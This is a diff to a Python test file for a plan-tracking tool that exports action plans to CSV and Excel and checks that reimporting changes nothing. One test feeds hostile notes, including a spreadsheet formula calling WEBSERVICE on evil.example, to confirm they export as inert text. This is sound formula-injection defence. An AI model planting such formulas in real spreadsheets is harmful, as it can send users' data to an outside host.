@@ -68,25 +68,32 @@ async def test_export_carries_latest_progress_and_reimports_without_change(
         with path.open(encoding="utf-8-sig", newline="") as handle:
             table = [dict(r) for r in csv.DictReader(handle)]
     else:
-        sheet = load_workbook(path).active
-        assert sheet is not None
-        values = [
-            [c if c is not None else "" for c in r] for r in sheet.iter_rows(values_only=True)
-        ]
-        table = [dict(zip(values[0], map(str, r), strict=True)) for r in values[1:]]
+        sheet = load_workbook(path)["Plan"]
+        values = [[_text(c) for c in r] for r in sheet.iter_rows(values_only=True)]
+        table = [dict(zip(values[0], r, strict=True)) for r in values[1:]]
     assert len(table) == 77
-    assert list(table[0])[:8] == [
+    assert list(table[0])[:12] == [
         "Priority",
         "Ref",
+        "Milestone ref",
         "Key actions",
         "Lead(s)",
+        "Lead names",
         "Timescales",
+        "Due",
         "Milestones",
         "Progress 1 - 4",
+        "Rating in words",
         "Network(s)",
     ]
     first = table[0]
+    assert (first["Ref"], first["Milestone ref"], table[1]["Milestone ref"]) == (
+        "1.1",
+        "1.1-1",
+        "1.1-2",
+    )
     assert first["Progress 1 - 4"] == "2"
+    assert first["Rating in words"] == "Largely achieved, some tasks outstanding"
     assert first["Notes"] == "Agreed, with one action left; “quotes”"
     assert first["Last updated"] == "30/05/2018"
     assert first["Revised date"] == "31/07/2018"
@@ -94,13 +101,22 @@ async def test_export_carries_latest_progress_and_reimports_without_change(
     assert table[1]["Revised date"] == table[1]["Needs support"] == ""
     assert first["Status"] == "overdue by 1 days"
     report = await import_plan(pulse.sessions, path, now=NOW, plan_key="wirral")
-    assert not [w for w in report.warnings if "not recognised" in w.reason]
+    assert not [w for w in report.warnings if "not recognised" in w.reason or "second" in w.reason]
     assert report.actions_added == report.actions_changed == report.actions_retired == 0
     assert report.milestones_added == report.milestones_changed == 0
     assert report.milestones_retired == 0
     assert report.ratings_recorded == 0
     after = await pulse.statuses("wirral", as_of=date(2018, 6, 1))
     assert [line.status for line in after] == [line.status for line in before]
+
+
+def _text(value: object) -> str:
+    """A cell as the CSV export writes it."""
+    if value is None:
+        return ""
+    if isinstance(value, datetime):
+        return value.strftime("%d/%m/%Y")
+    return str(value)
 
 
 HOSTILE = (
@@ -152,12 +168,20 @@ async def test_hostile_notes_export_as_text_and_reimport_without_change(
         assert "'''+twice quoted" in cells
     else:
         with ZipFile(path) as archive:
-            assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
-        sheet = load_workbook(path).active
-        assert sheet is not None
-        typed = {c.value: c.data_type for row in sheet.iter_rows() for c in row if c.value}
+            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
+            assert len(sheets) == 2
+            assert all("<f>" not in archive.read(n).decode() for n in sheets)
+        book = load_workbook(path)
+        typed = {
+            c.value: c.data_type
+            for sheet in book.worksheets
+            for row in sheet.iter_rows()
+            for c in row
+            if isinstance(c.value, str)
+        }
         assert all(kind == "s" for kind in typed.values())
         assert set(HOSTILE) <= set(typed)
+        assert "=1+1 Wirral" in typed
     report = await import_plan(pulse.sessions, path, now=NOW, plan_key="wirral")
     assert report.actions_changed == report.milestones_changed == 0
     assert report.ratings_recorded == 0
@@ -169,3 +193,72 @@ async def test_hostile_notes_export_as_text_and_reimport_without_change(
     assert {a.title for a in tracked.actions if a.ref == "2.1"} == {
         '=WEBSERVICE("http://evil.example")'
     }
+
+
+async def test_xlsx_export_is_typed_coloured_filtered_printable_and_summarised(
+    pulse: PlanPulse, tmp_path: Path
+) -> None:
+    """The board's workbook opens on a Summary sheet with counts and a native chart of the
+    rating mix; its Plan sheet has ratings as numbers and dates as dates, the milestone's
+    reference beside the action's, lead names beside initials, status words on RAG fills, a
+    filter and frozen header, and prints A4 landscape one page wide under the plan's title;
+    importing it back records nothing."""
+    path = await pulse.export(
+        "wirral", fmt="xlsx", as_of=date(2018, 6, 1), output=tmp_path / "board.xlsx"
+    )
+    book = load_workbook(path)
+    assert book.sheetnames == ["Summary", "Plan"]
+    assert book.active is not None
+    assert book.active.title == "Summary"
+    summary = book["Summary"]
+    cells = list(summary.iter_rows(values_only=True))
+    head = next(i for i, r in enumerate(cells) if r[:2] == ("Priority", "Overdue"))
+    total = next(r for r in cells[head:] if r[0] == "All priorities")
+    assert total[7] == 77
+    assert sum(total[1:7]) == 77
+    assert all(isinstance(v, int) for v in total[1:8])
+    (chart,) = summary._charts
+    assert chart.tagname == "barChart"
+    assert chart.grouping == "stacked"
+    assert len(chart.series) == 5  # ratings 1-4 and not rated
+
+    sheet = book["Plan"]
+    header = [c.value for c in sheet[1]]
+    column = {name: header.index(name) for name in header}
+    first = [c for c in sheet[2]]
+    assert first[column["Ref"]].value == "1.1"
+    assert first[column["Milestone ref"]].value == "1.1-1"
+    assert first[column["Progress 1 - 4"]].value == 2
+    assert first[column["Progress 1 - 4"]].data_type == "n"
+    assert first[column["Rating in words"]].value == "Largely achieved, some tasks outstanding"
+    assert first[column["Revised date"]].value == datetime(2018, 7, 31)
+    assert first[column["Revised date"]].is_date
+    assert first[column["Due"]].is_date
+    assert isinstance(first[column["Timescales"]].value, str)
+    assert first[column["Lead(s)"]].value == "JB"
+    assert first[column["Lead names"]].value == "Joe Bannham"
+    fills: dict[str, object] = {}
+    for row in sheet.iter_rows(min_row=2):
+        status = row[column["Status"]]
+        fills[status.value.split(" (")[0].split(" by ")[0]] = status.fill.fgColor.rgb
+    assert str(fills["overdue"]).endswith("F4B6B6")
+    assert len({fills[k] for k in fills}) >= 2
+    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}78"
+    assert sheet.freeze_panes == "A2"
+    assert sheet.column_dimensions["D"].width > sheet.column_dimensions["B"].width
+    assert sheet.page_setup.orientation == "landscape"
+    assert sheet.page_setup.paperSize == 9  # A4
+    assert sheet.page_setup.fitToWidth == 1
+    assert sheet.page_setup.fitToHeight == 0
+    assert sheet.sheet_properties.pageSetUpPr.fitToPage
+    assert sheet.print_title_rows == "$1:$1"
+    tracked = await pulse.tracked("wirral")
+    page_header = sheet.oddHeader.center.text
+    assert tracked.plan.title.replace("&", "&&")[:40] in page_header
+    assert "as of 1 June 2018" in page_header
+
+    report = await import_plan(pulse.sessions, path, now=NOW, plan_key="wirral")
+    assert "read sheet 'Plan'" in [w.reason for w in report.warnings]
+    assert not [w for w in report.warnings if "not recognised" in w.reason or "second" in w.reason]
+    assert report.actions_changed == report.milestones_changed == report.milestones_added == 0
+    assert report.ratings_recorded == 0
